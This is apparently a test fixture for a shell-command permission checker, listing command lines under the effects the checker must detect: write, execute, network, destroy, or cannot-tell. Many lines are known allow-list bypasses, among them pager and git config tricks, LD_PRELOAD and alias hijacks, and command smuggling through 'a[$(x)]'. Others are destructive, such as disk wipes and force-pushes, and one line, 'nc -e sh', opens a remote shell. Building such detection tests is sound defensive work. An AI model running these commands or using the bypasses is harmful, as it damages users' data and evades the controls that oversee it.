/** Simple commands that do more than look, by what each must at least be found to do. Most are known ways around lists of allowed programs. */
import type { Effect } from '../../../src/core/index.ts';

const lists: { readonly [effect in Exclude<Effect, 'read'>]: string } = {
  write: String.raw`
unzip -lT a.zip
xxd -ps a.txt out
units -L out 1m ft
units --log=out 1m ft
pkg-config -log-file=out --libs x
kubectl config view --profile=cpu
kubectl --profile-output=out config view
yq -ri . a.yaml
cloc -xsl=1 .
git reflog write x
git add .
git add -n -N a
git add -n --no-dry-run a
git add -n -p
git mv a b
git mv -n --no-dry-run a b
git apply x.patch
git apply --stat --apply x.patch
git apply --check --app x.patch
git apply --check --reject x.patch
git apply --check -3 x.patch
git merge-file a b c
git merge-file -p --no-stdout a b c
git format-patch -1
git format-patch --stdout -o dir -1
git interpret-trailers --in-place a
git interpret-trailers --parse --in-place a
lz4 a out
lz4 -c -m a b
brotli -c -o out a
brotli -t --rm a
cpio -o
rsync -a src/ out/
rsync -an --log-file=out src/ dst/
rsync -an --write-batch=out src/ dst/
terraform fmt
terraform fmt -check=false
terraform fmt -check -write=true
pdftotext a.pdf
pdftotext a.pdf out
pdfimages a.pdf out
openssl md5 -out out a
python3 -I -m json.tool a.json out
xz -l -d q.xz
xz -t -d q.xz
xz -tz q
bzip2 -t -d q.bz2
bzip2 -tz q
xz --list --decompress f.xz
xz -t --compress f
unxz -tz f
lzma -t -d f
pigz -t -z f
zstd -l -d f.zst
zstd -t -z f
zstd -lz f
tar -tf x.tar --volno-file=p
pmap --create-rc-to=p
pmap --create-rc
blkid --garbage-collect
blkid --cache-file p
pkg-config --log-file=p --libs x
awk -p 1 f
gawk -d 1 f
gawk --profile 1 f
gawk --dump-variables 1 f
cloc --diff-alignment=p a b
cloc -out=p .
less -o out a
gawk -oout '{print}' a.txt
split a.txt part
sort -o out a.txt
sort -oout a.txt
sort -uo out a.txt
sort --output=out a.txt
sort --outp=out a.txt
sort --o out a.txt
sort a.txt -o a.txt
sort -T dir a.txt
uniq a.txt out
uniq -c a.txt out
xxd -r a.txt out
find . -fprint out
find . -fprintf out %p
find . -fls out
find . -name x -fprint0 out
git log --output=out
git diff --output out
git show --outpu=out
git log --output=out -1 -- a.ts
tree -o out
file -C -m magic
date -s 2020-01-01
date -us2020-01-01
date --set=2020-01-01
date --se 2020-01-01
date 010112002020
hostname other
tee out
tee -a out
dd if=a.txt of=out
sed -i s/a/b/ a.txt
sed -ni.bak s/a/b/ a.txt
sed --in-place=.bak s/a/b/ a.txt
sed --in-p s/a/b/ a.txt
sed -n 'w out' a.txt
sed 's/a/b/w out' a.txt
sed -n '/x/w out' a.txt
sed -e 's/x/y/gpw out' a.txt
awk '{print > "out"}' a.txt
awk '{print $1 >> "out"}' a.txt
awk '{printf "%s", $0 > FILENAME ".x"}' a.txt
split a.txt
csplit a.txt 3
shuf -o out a.txt
base64 -o out a.txt
iconv -f latin1 -t utf8 -o out a.txt
pandoc -o out a.md
openssl x509 -in c.pem -out out
openssl rand -out out 10
cp a b
cp -t dir a
mv a b
ln -s a b
install -m 755 a b
mkdir -p dir
touch a
chmod +x a
chmod -R 777 .
chown -R u:g .
mkfifo p
yq -i '.a = 1' a.yaml
yq --inplace '.a = 1' a.yaml
git add -A
git add .
git commit -m x
git branch new
git branch -m old new
git branch -c old new
git branch --set-upstream-to=origin/main
git branch -f main HEAD~3
git tag v1
git tag -a v1 -m x
git stash
git stash push
git stash -u
git stash pop
git stash apply
git checkout -b x
git switch -c x
git merge x
git rebase main
git cherry-pick abc
git revert HEAD
git reset HEAD~1
git apply a.patch
git config user.name X
git config --global user.name X
git config --unset user.name
git config core.hooksPath hooks
git config set core.pager x
git remote add origin https://example.com/x.git
git remote set-url origin x
git worktree add ../x
git notes add -m x
git symbolic-ref HEAD refs/heads/x
git update-ref refs/heads/x HEAD
git mv a b
git init
git init dir
git fsck --lost-found
git hash-object -w a.ts
git format-patch -1
git archive -o out.tar HEAD
git bundle create out HEAD
git bisect start
git submodule init
git lfs track x
git update-index --assume-unchanged a.ts
go env -w GOPROXY=x
gofmt -w a.go
npm config set x y
npm set x=y
npm pkg set name=x
npm version patch
npm pack
pip config set x y
tar cf out.tar a
tar -czf out.tgz a
tar xf a.tar
tar -xzf a.tgz -C dir
tar -rf a.tar b
zip out.zip a
unzip a.zip
unzip -o a.zip -d dir
gzip a
gunzip a.gz
gzip -d a.gz
bzip2 a
xz a
zstd a
patch -p1
crontab file
crontab -
mount /dev/sdb1 /mnt
sysctl -w a=b
sysctl a=b
journalctl --rotate
logger x
passwd
useradd x
nohup ls
time -o out ls
strace -o out ls
flock lock ls
script out
ssh-keygen -t ed25519
objcopy a b
strip a
ctags -R
dos2unix a
setfacl -m u:x:r a
chattr +i a
curl -o out https://example.com
curl -O https://example.com/x
curl -sSLo out https://example.com
curl --outp out https://example.com
curl -D headers https://example.com
wget https://example.com/x
wget -O out https://example.com/x
docker cp a b:c
docker save -o out x
docker tag a b
kubectl apply -f a.yaml
shfmt -w a.sh
`,
  execute: String.raw`
bash a.sh
bash -ni a.sh
node --check -r ./x a.js
node --check --import ./x a.js
node -c -e 'x()'
php -l -r 'x();'
python3 -m json.tool a.json
python3 -P -E -m json.tool a.json
python3 -I -m x
python3 -I -c 'x()' -m json.tool
python3 -I -W error::x -m json.tool
rsync -an -e ./x src/ dst/
jest --version
gradle --version
tar -tMf a.tar
tar -tf a.tar --multi-volume
tar -tf a.tar -L 1
kill -s 0 -s 9 1
kill -0 -s 9 1
ninja -v
ctest -V
rake -v
just -v
task -v
tox -h
scons --help
waf --help
bmake -v
as -v
erl --version
tclsh --version
csh --help
jest --version
bun root
bun explain x
git log --format=%+G?
git log '--format=% GS'
git for-each-ref --format=%(*signature)
git log --diff-merges=remerge -p
cargo tree --frozen
cargo metadata --offline --locked
rpm -Vp x.rpm
cloc -vcs=x .
git -c alias.x=!y x
cargo help foo
awk -i inplace '{print}' a.txt
awk 'BEGIN {while (("x") | getline > 0) n++}'
cargo build --frozen
sort --compress-program=x a.txt
sort --comp x a.txt
rg --pre x foo
rg --pre=x foo
rg --hostname-bin x foo
rg -z foo
tar -xf a.tar --to-command=x
tar -tf a.tar -I x
tar tf a.tar --use-comp=x
tar -cf out a --checkpoint=1 --checkpoint-action=exec=x
tar -tf a.tar -F x
tar -tf host:a.tar
git diff --ext-diff
git log --ext-diff -p
git grep -O foo
git grep -Oless foo
git grep --open-files-in-pager=x foo
git ls-remote --upload-pack=x .
git fetch --upload-pack x origin
git clone --upload-pack x a
git clone -u x a
git clone -c core.fsmonitor=x a
git log --show-signature
git log --format=%G?
git show -s '--pretty=%GS'
git tag -v v1
git rebase -x 'rm a' main
git bisect run ./x
git difftool
git mergetool
git submodule foreach ls
git submodule update
git filter-branch x
git hook run pre-commit
man -P x ls
man --pager=x ls
man -H ls
ag --pager x foo
bat --pager x a
awk 'BEGIN {system("x")}'
awk 'BEGIN {"date" | getline d}'
awk '{print | "sh"}' a.txt
awk '{print |& "sh"}' a.txt
awk -f x.awk a.txt
sed 's/a/b/e' a.txt
sed '1e x' a.txt
sed e a.txt
sed -n 's/a/b/pe' a.txt
sed -f x.sed a.txt
ed a
ex a
vi -c '!x' a
vim a
nano a
node script.js
node -e 1
node -p process
node --require ./x.js --version
node --test
node
python script.py
python3 -c 'print(1)'
python -m http.server
python3
perl -e 1
perl -ne print a
ruby -e 1
php -r x
pytest
jest
make
make -n
make build
cmake --build .
cargo build
cargo test
cargo run
go build ./...
go test ./...
go run .
go vet ./...
npm test
npm run build
npm start
npx tsc
npx -y cowsay hi
bunx x
pnpm dlx x
pnpm test
yarn build
yarn
npm install
npm i left-pad
npm ci
npm exec x
npm create x
pip install x
pip3 install -r requirements.txt
uv pip install x
poetry install
gem install x
cargo install x
brew install x
apt install x
apt-get install -y x
dpkg -i a.deb
rpm -i a.rpm
pacman -S x
apk add x
./script.sh
bash script.sh
bash
sh -s
source x.sh
. x.sh
sudo ls
sudo -u x ls
doas ls
su -c ls
chroot dir ls
ssh host ls
ssh host
docker run x
docker run --rm -it x sh
docker exec x ls
docker compose up -d
docker build .
docker start x
kubectl exec x -- ls
kubectl run x
systemctl start x
systemctl restart nginx
systemctl enable x
service x start
kill 12
kill -9 12
pkill node
killall node
shutdown now
reboot
at now
crontab -e
ip link set eth0 down
ip addr add 1.2.3.4/24 dev eth0
ss -K
fuser -k 80/tcp
tsc
eslint .
prettier --check .
gcc a.c
rustc a.rs
terraform plan
xmllint --shell a.xml
install --strip-program=x -s a b
diff -l a b
rsync -e x a host:b
scp a host:b -S x
watchexec ls
gdb -ex x
psql -c x
git push
tmux
screen
open .
ldd a
claude -p x
curl -K x
wget -e x=y https://example.com
nc -e sh example.com 1
psql
`,
  network: String.raw`
ffprobe https://example.com/a.mp4
ffprobe -i subfile,,start,1,end,9,,:https://example.com/a.mp4
mediainfo https://example.com/a.mp4
git remote show origin
rsync -an host:src/ dst/
terraform version
kubectl version
xmllint --c14n a.xml
go list -deps ./...
go list -m all
xmllint http://e/x.xml
xmllint --schema http://e x
finger root@h
lspci -q
lspci -Q
jps host
docker compose config --resolve-image-digests
docker compose -f https://x/y.git config
go list -m x@latest
go list x@latest
rpm -qp http://x/y.rpm
luarocks list --outdated
luarocks list --server=x
git ls-remote
git archive --remote=x HEAD
curl https://example.com
curl -s example.com
curl -X POST -d a=b https://example.com
curl -T a https://example.com
wget -qO- https://example.com
ping -c1 example.com
dig example.com
nslookup example.com
host example.com
whois example.com
ssh user@example.com
scp a user@example.com:b
rsync a example.com:b
rsync rsync://example.com/x
sftp example.com
ftp example.com
telnet example.com 80
nc example.com 80
git fetch
git pull
git push
git clone https://example.com/x.git
git remote show origin
git remote update
git ls-remote
git submodule update --init
npm view react
npm outdated
npm audit
npm publish
npm install
npm login
pip install x
pip download x
pip list --outdated
twine upload dist/x
cargo publish
cargo metadata
cargo tree
cargo update
gem push x.gem
gem list -r
docker push x
docker pull x
docker login
docker search x
kubectl get pods
kubectl logs x
helm list
gh pr list
gh pr create
gh release create v1
gh api repos/x/y
gh api -X DELETE repos/x/y
aws s3 ls
gcloud projects list
go mod tidy
go mod download
brew update
apt update
apt-get update
getent hosts example.com
openssl s_client -connect example.com:443
xmllint --valid a.xml
nmap example.com
traceroute example.com
`,
  destroy: String.raw`
git clean -n --no-dry-run -f
git clean -n --no-d -f
git clean -n -i
git clean -n $x
git rm -n --no-dry-run a
sfdisk -l --delete /dev/sda
git reflog drop x
git -c remote.origin.mirror push
git -c Remote.origin.PUSH=+main push
tar --remove-files -cf x.tar a
zip -rm x.zip a
7z a x.7z -sdel a
rm a
rm -rf dir
rm -r -f dir
/bin/rm a
rmdir dir
unlink a
shred -u a
truncate -s 0 a
find . -delete
find . -name x -delete
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
mkfs -t ext4 /dev/sda1
wipefs -a /dev/sda
fdisk /dev/sda
cp a /dev/sda
tee /dev/nvme0n1
git push --force
git push -f
git push -fu origin main
git push --force-with-lease
git push --force-w
git push --mirror
git push --delete origin x
git push -d origin x
git push origin +main
git push origin +HEAD:main
git push origin :x
git push --prune
git -C . push -f
git -c color.ui=never push --force
git pushy
git checkout -- a.ts
git checkout .
git restore a.ts
git reset --hard
git reset --hard HEAD~1
git reset --har
git clean -fd
git clean -xdf
git branch -D x
git tag -d v1
git stash drop
git stash clear
git reflog expire --expire=now --all
git gc --prune=now
git worktree remove x
git rm a.ts
git switch -f x
git update-ref -d refs/heads/x
git remote remove origin
git filter-branch --all
git notes remove
rsync -a --delete a/ b/
rsync --del a b
docker rm x
docker rmi x
docker system prune -f
docker volume rm x
docker compose down -v
kubectl delete pod x
crontab -r
userdel x
ipcrm -a
journalctl --vacuum-size=1M
tar -cf out --remove-files a
zip -m out.zip a
terraform destroy
go clean -cache
pip uninstall -y x
pip cache purge
dmesg -C
trash a

`,
  'cannot-tell': String.raw`
exiftool -Title=x a.jpg
exiftool -overwrite_original a.jpg
exiftool -if x a.jpg
exiftool -config x a.jpg
exiftool -o out a.jpg
ffprobe -f lavfi -i x
ffprobe -report a.mp4
ffmpeg -i a.mp4 out.mp4
nvidia-smi -r
nvidia-smi -f out -q
zpool status -c x
zpool destroy x
zfs destroy x
jar xf a.jar
jar tf @x
jar tf -J-javaagent:x a.jar
lshw -dump out
dmidecode --dump-bin out
svn status
svn log
hg status
hg --version
jj log
nginx -s stop
hugo
cabal build
git column --foo
bash -n +n a.sh
env GIT_EXTERNAL_DIFF=x git diff
pngquant a.png
jo -o out
ar t lib.a --plugin=x.so
ar t lib.a @options
ar t lib.a -M
openssl list -provider x -digest-algorithms
tmux ls -F '#(x)'
dc -e '?'
git --bare status
less '-Pfoo$+!x' a.txt
less '-j5$+!x' a.txt
less -p x a.txt
man -M x ls
cloc -extract=x a.zip
mkpasswd x
xxd -as a.txt out
xxd -un a.txt out
apt-file search x -o Dir::Bin=x
wait -p x -n
jps -J-javaagent:x.jar
cloc --strip-comments=nc .
cloc --use-sloccount .
ack -pager=touch x
unrar l -ilogp x.rar
unrar t -ioff x.rar
git -c format.pretty=%G? log
git -c remote.origin.push=+a push
git help log
npm help install
tar --cre -f a.tar b
nm @options
nm $x
tar -tf a.tar -T list
shopt -o allexport
declare -i n=$x
printf $x
awk '{if (1) /"#/; print}' a
foo
foo --help
foo --version
$x
$x a
ls --no-such-option
git foo
git --git-dir=x log
git --exec-path=x log
git --work-tree=x status
git -c core.pager=x log
git -c core.fsmonitor=x status
git -c diff.external=x diff
git -c core.sshCommand=x fetch
git -c core.hooksPath=x commit
git --config-env=core.pager=X log
git -p log
git --paginate log
git diff --textconv
git cat-file --textconv HEAD:a.ts
git cat-file --filters HEAD:a.ts
git $x
git log $x
git -C $x status
git -C odd status
git -C odd diff
sort *
sort $x
sort -k $x a.txt
sort "$x"
rg foo *
rg $x
find *
find $x
find . $x
find . -name *
find . -foo
sed -n $x a.txt
sed "$x" a.txt
sed -n 1p *
sed k a.txt
awk $x a.txt
awk '@load "filefuncs"; {print}' a.txt
awk '{getline x < "a"; print x}' a.txt
tree *
date $x
tar *
tar tf $x
git tag $x
env FOO=bar awk 1 a
env -S 'rm a'
env LD_PRELOAD=x ls
env PATH=. ls
export PATH=.
export GIT_PAGER=x
export LD_PRELOAD=./x.so
declare -x PAGER=x
alias ls=rm
alias ls='rm -rf'
set -a
set -o allexport
shopt -s extglob
hash -p /tmp/x ls
enable -f x y
printf -v 'a[$(x)]' y
printf -v PATH x
test -v 'a[$(x)]'
read 'a[$(x)]'
read PATH
let 'a[$(x)]=1'
[[ 'a[$(x)]' -eq 1 ]]
[[ $x -eq 1 ]]
declare 'a[$(x)]=1'
unset 'a[$(x)]'
python -c 'print(1)'
node -e 1
node $x
bash -c $x
eval $x
less +!x a
less '+!x' a
less $x
more +!x a
less --lesskey-file=x a
man ./x
man -l x
mktemp -u
docker -H tcp://x ps
docker --context x ps
npm --prefix x ls
npm --userconfig x ls
pip --python x list
dc -e '!x'
history -c
history -w
compgen -W '$(x)'
systemctl -H x status
loginctl -M x
journalctl --foo
apt -o x=y list
yq 'system("x")' a.yaml
parallel ls
nsenter -t 1 ls
ssh-keygen -y -f x
poetry show
openssl genrsa 2048
openssl dgst -engine x a
git last --output-x
git stash show --textconv
cd --foo
tail --foo a
git archive --format=x HEAD
jq --foo . a
`,
};

/** Each command line with an effect that it must be found to have. */
export const acting: readonly (readonly [string, Effect])[] = Object.entries(lists).flatMap(([effect, text]) =>
  text
    .trim()
    .split('\n')
    .map((line) => [line, effect as Effect] as const),
);
